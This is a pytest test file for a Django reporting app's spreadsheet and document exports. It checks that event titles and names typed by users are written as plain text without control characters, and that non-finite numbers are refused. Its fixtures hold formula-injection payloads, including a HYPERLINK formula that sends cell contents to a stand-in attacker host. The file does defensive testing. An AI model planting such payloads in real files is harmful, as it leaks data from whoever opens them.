"""What a person typed reaches every report file cleaned once (core.cells): text stays text, never a formula; no
control character; a NaN or an infinity is refused. The annual report (XLSX, CSV, DOCX) and a partner's report
(XLSX, DOCX), read back with openpyxl and python-docx."""

import csv
import datetime
import io
import math
import re
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.utils.translation import gettext_lazy
from docx import Document
from openpyxl import load_workbook

from agreements.models import Amendment
from core.cells import UnwritableValue, cell, csv_cell
from reports.exports import partner as partner_files
from reports.exports import to_csv, to_docx, to_xlsx
from reports.partner import build_partner_report
from reports.report import build_report
from tests.factories import (
    AgreementFactory,
    EventFactory,
    HostLibraryFactory,
    LibraryFactory,
    ParticipationFactory,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'
SUM = "@SUM(1+1)*cmd"
MINUS = "-2+3"
PLUS = "+7 (3842) 00-00-00"
TABBED = "\tзаголовок с табуляцией"
VERTICAL_TAB = "Вебинар\x0bс вертикальной табуляцией\x01"
VERTICAL_TAB_CLEANED = "Вебинарс вертикальной табуляцией"
FORMULAS = [HYPERLINK, SUM, MINUS, PLUS, TABBED]
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
DAY = datetime.datetime(2020, 5, 5, 12, tzinfo=datetime.UTC)


@pytest.fixture
def typed_by_people(db):
    """A partner whose events were given titles that look like formulas or hold control characters."""
    host = HostLibraryFactory()
    partner = LibraryFactory(short_name="=1+1", name="Библиотека\x0bимени =Формулы")
    AgreementFactory(host=host, partner=partner, number="=2+2", signed_on=datetime.date(2019, 1, 1))
    for day, title in enumerate([*FORMULAS, VERTICAL_TAB], start=1):
        event = EventFactory(
            title=title,
            description="=1+1",
            status="held",
            organiser=host,
            starts_at=DAY + datetime.timedelta(days=day),
        )
        ParticipationFactory(event=event, library=partner)
    return partner


def workbook_cells(content: bytes):
    """Every cell of every sheet, headers included, as openpyxl reads it back."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text_stays_text(content: bytes, expected: list[str]) -> None:
    cells = workbook_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert value in texts, value
        assert texts[value].data_type == "s"
    assert [c.value for c in cells if isinstance(c.value, str) and CONTROL.search(c.value)] == []


def test_the_annual_report_xlsx_writes_formula_like_titles_as_text(typed_by_people):
    content = to_xlsx(build_report(2020))

    assert_text_stays_text(content, [*FORMULAS, VERTICAL_TAB_CLEANED])
    assert "=1+1" in {c.value for c in workbook_cells(content)}  # the partner's short name, as text


def test_the_partner_report_xlsx_writes_formula_like_titles_as_text(typed_by_people):
    report = build_partner_report(typed_by_people, 2020)

    content = partner_files.to_xlsx(report)

    assert_text_stays_text(content, [*FORMULAS, VERTICAL_TAB_CLEANED, "=2+2"])
    assert load_workbook(io.BytesIO(content)).properties.title == report.title.replace("\x0b", "")


def test_the_csv_marks_formula_like_text_with_an_apostrophe_and_drops_control_characters(typed_by_people):
    rows = list(csv.reader(io.StringIO(to_csv(build_report(2020)).decode("utf-8-sig")), delimiter=";"))
    labels = {row[1] for row in rows if row[0] == "Мероприятия (список)"}

    assert {"'" + title for title in FORMULAS} <= labels
    assert VERTICAL_TAB_CLEANED in labels
    assert not any(CONTROL.search(field) for row in rows for field in row)
    risky = [field for row in rows for field in row if field.startswith(("=", "+", "-", "@", "\t"))]
    assert all(re.fullmatch(r"-\d+(,\d)?", field) for field in risky), risky  # negative figures only


def test_the_docx_files_hold_the_text_without_control_characters(typed_by_people):
    agreement = typed_by_people.agreements.get()
    Amendment.objects.create(agreement=agreement, number="=3", summary="Изменён\x0c срок", signed_on=DAY.date())
    annual = Document(io.BytesIO(to_docx(build_report(2020))))
    partner = Document(io.BytesIO(partner_files.to_docx(build_partner_report(typed_by_people, 2020))))

    for document in (annual, partner):
        texts = [p.text for p in document.paragraphs]
        texts += [c.text for table in document.tables for row in table.rows for c in row.cells]
        assert not any(CONTROL.search(t) for t in texts)
        assert any(VERTICAL_TAB_CLEANED in t for t in texts)
    assert partner.paragraphs[0].text.startswith("Совместная работа в 2020 году")
    assert "Библиотекаимени =Формулы" in partner.paragraphs[0].text
    assert any("Изменён срок" in p.text for p in partner.paragraphs)


@pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf])
def test_a_nan_or_an_infinity_is_refused_with_a_clear_error(db, bad):
    report = build_report(2020)
    report.headline[0].change_pct = bad

    with pytest.raises(UnwritableValue, match="not a finite number"):
        to_xlsx(report)
    with pytest.raises(UnwritableValue, match="not a finite number"):
        to_csv(report)


def test_a_nan_in_a_partner_report_is_refused(typed_by_people):
    report = build_partner_report(typed_by_people, 2020)
    report.totals.held = math.nan

    with pytest.raises(UnwritableValue):
        partner_files.to_xlsx(report)


# ---- The rules themselves (core.cells) ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("обычный текст", "обычный текст"),
        ("две\nстроки и\tтабуляция", "две\nстроки и\tтабуляция"),  # kept: XLSX and DOCX carry both
        ("Windows\r\nи старый Mac\r", "Windows\nи старый Mac\n"),
        ("верт.\x0bтаб, \x00ноль, \x1bescape, \x7fdel, \x85C1, \ufffe", "верт.таб, ноль, escape, del, C1, "),
        (gettext_lazy("нет данных"), "нет данных"),
    ],
)
def test_cell_cleans_text(typed, written):
    assert cell(typed) == written


@pytest.mark.parametrize(
    "value", [0, -5, 2.5, Decimal("55.35"), datetime.date(2020, 1, 1), datetime.datetime(2020, 1, 1, 9), None, True]
)
def test_cell_passes_numbers_dates_and_empty_cells(value):
    assert cell(value) == value and type(cell(value)) is type(value)


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf, Decimal("NaN"), Decimal("-Infinity")])
def test_cell_refuses_what_is_not_a_finite_number(value):
    with pytest.raises(UnwritableValue, match="not a finite number"):
        cell(value)


@pytest.mark.parametrize(
    ("typed", "field"),
    [
        ("=1+1", "'=1+1"),
        ("+7", "'+7"),
        ("-x", "'-x"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\nx"),
        ("a=b", "a=b"),
    ],
)
def test_csv_cell_marks_text_a_spreadsheet_would_run(typed, field):
    assert csv_cell(typed) == field


def test_csv_cell_leaves_numbers_to_be_shown():
    assert csv_cell(-5) == -5


def test_the_annual_report_command_writes_the_same_clean_xlsx(typed_by_people, tmp_path):
    path = tmp_path / "report.xlsx"

    call_command("annual_report", "2020", "--format", "xlsx", "--output", str(path), stdout=io.StringIO())

    assert_text_stays_text(path.read_bytes(), [*FORMULAS, VERTICAL_TAB_CLEANED])
